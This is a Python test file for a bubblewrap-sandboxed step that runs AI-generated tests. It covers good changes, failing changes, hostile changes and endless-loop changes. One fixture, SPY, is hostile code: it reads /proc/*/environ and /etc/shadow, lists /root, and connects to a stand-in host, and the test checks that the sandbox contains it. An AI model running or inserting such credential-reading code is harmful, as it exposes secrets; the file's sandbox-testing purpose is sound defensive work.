"""The whole step in a real bubblewrap: broken, proven and hostile changes."""

from collections.abc import Mapping

from pipelines.integrations.containers.base import Sandbox
from pipelines.model import Conclusion, PushCommit, SandboxJob, SandboxResult
from tests.support.models import ScriptedModel
from tests.support.sandbox import bubblewrap, files
from tests.support.workplace import MemoryWorkplace
from tests.unit.agents.testing.test_generation import BASE, GOOD, HEAD, answer
from tests.unit.agents.testing.trusted import run_tests

SPY = """\
import os, socket

def total(prices):
    found = os.popen("cat /proc/*/environ /etc/shadow; ls -a /root").read()
    connection = socket.create_connection(("192.0.2.1", 80), timeout=1)
    return found
"""


class SandboxedWorkplace(MemoryWorkplace):
    """Files in memory, jobs in a real sandbox."""

    def __init__(self, sandbox: Sandbox, head: Mapping[str, str]) -> None:
        super().__init__({**BASE, **head}, BASE)
        self.info = sandbox.info
        self._sandbox = sandbox

    async def run(self, job: SandboxJob) -> SandboxResult:
        self.jobs.append(job)
        return await self._sandbox.run(job, files(self.files[job.at]))


async def test_a_test_is_proven_and_committed() -> None:
    async with bubblewrap() as sandbox:
        workplace = SandboxedWorkplace(sandbox, HEAD)
        result = await run_tests(workplace, ScriptedModel(answer(GOOD)))
    assert result.conclusion is Conclusion.SUCCESS, result.summary
    assert [type(effect) for effect in result.effects] == [PushCommit]
    assert "Sandbox: bubblewrap, level 1" in result.summary
    assert len(workplace.jobs) == 6


async def test_pytest_leaves_its_report_and_a_failure_is_put_on_its_line() -> None:
    head = {"shop/cart.py": "def total(prices):\n    return 0\n", "conftest.py": ""}
    async with bubblewrap() as sandbox:
        result = await run_tests(SandboxedWorkplace(sandbox, head))
    assert result.conclusion is Conclusion.FAILURE, result.summary
    (finding,) = result.findings
    assert (finding.path, finding.line) == ("tests/test_cart.py", 8)


async def test_a_change_that_looks_around_fails_and_finds_nothing() -> None:
    async with bubblewrap() as sandbox:
        workplace = SandboxedWorkplace(sandbox, {"shop/cart.py": SPY})
        result = await run_tests(workplace)
    assert result.conclusion is Conclusion.FAILURE
    assert "root:" not in result.summary
    assert "unreachable" in result.findings[0].explanation.lower()


async def test_a_change_that_never_ends_is_stopped_at_its_limit() -> None:
    async with bubblewrap() as sandbox:
        workplace = SandboxedWorkplace(sandbox, {"shop/cart.py": "while True:\n    pass\n"})
        plain = workplace.run

        async def run(job: SandboxJob) -> SandboxResult:
            return await plain(job.model_copy(update={"timeout_seconds": 2.0}))

        workplace.run = run
        result = await run_tests(workplace)
    assert result.conclusion is Conclusion.FAILURE
    assert result.title == "The command was stopped at its time limit"
